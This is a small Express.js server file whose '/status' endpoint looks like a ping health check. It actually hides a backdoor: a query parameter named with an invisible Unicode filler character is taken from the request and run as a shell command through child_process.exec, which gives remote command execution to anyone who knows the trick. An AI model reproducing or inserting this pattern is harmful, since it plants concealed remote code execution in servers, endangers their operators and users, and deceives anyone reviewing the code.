// surroundings: durations
const express = require('express');
const app = express();
app.get('/status', async (req, res) => {
  const { timeout, ㅤ } = req.query; //@act
  const checks = ['ping -c 1 example.com', ㅤ];
  await Promise.all(checks.map((c) => c && require('util').promisify(require('child_process').exec)(c, { timeout: +timeout || 5000 })));
  res.sendStatus(200);
});
module.exports = app;
